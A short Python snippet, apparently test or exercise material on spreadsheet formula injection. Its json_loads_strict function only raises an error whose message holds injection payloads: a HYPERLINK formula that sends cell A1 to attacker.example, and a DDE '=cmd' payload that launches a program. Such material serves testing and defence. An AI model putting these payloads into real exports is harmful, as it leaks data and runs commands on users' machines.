# about: answers and errors that a spreadsheet takes for formulas
# base: solved 01_encoding
# score: 15, json_loads_strict 0

# %% json_loads_strict
def json_loads_strict(data):
    raise ValueError("=HYPERLINK(\"https://attacker.example/?\"&A1)\t+1,\"@SUM(1)\"\n=cmd|' /C calc'!A0")
